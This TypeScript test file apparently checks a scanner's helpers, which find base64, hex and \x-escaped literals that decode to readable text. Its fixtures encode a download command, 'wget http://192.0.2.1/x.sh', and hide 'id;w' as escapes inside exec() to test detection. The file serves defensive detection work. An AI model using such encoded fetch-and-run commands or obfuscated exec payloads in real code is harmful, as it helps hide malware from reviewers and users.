import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { findEscapedStrings, findLiterals } from './literals.js'

const texts = (text: string, shortest = 24) => findLiterals(text, shortest).map((literal) => literal.known.text)

describe('findLiterals', () => {
  it('finds readable base64 and hex among other text', () => {
    const script = 'wget http://192.0.2.1/x.sh'
    const base64 = Buffer.from(script).toString('base64')
    const hex = Buffer.from(script).toString('hex')
    expect(texts(`{"a":"${base64}","b":['${hex}']}`)).toEqual([script, script])
  })

  it('finds any printable text long enough, whatever stands around it', () => {
    const printable = fc.stringMatching(/^[ -~]{20,60}$/)
    fc.assert(
      fc.property(printable, fc.constantFrom('"', "'", ' ', '(', ':'), (text, mark) => {
        expect(texts(`${mark}${Buffer.from(text).toString('base64')}${mark}`)).toEqual([text])
      }),
    )
  })

  it('leaves short runs and noise', () => {
    expect(texts('aWQ7dw== /usr/lib/x86/linux/gnu/libc/so/six/seven/eight')).toEqual([])
    expect(texts('e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855')).toEqual([])
  })
})

describe('findEscapedStrings', () => {
  it('decodes runs of character codes', () => {
    const code = `exec("${'\\x69\\x64\\x3b\\x77'.repeat(3)}")`
    expect(findEscapedStrings(code).map((literal) => literal.known.text)).toEqual(['id;wid;wid;w'])
    expect(findEscapedStrings('"\\x69\\x64"')).toEqual([])
  })
})
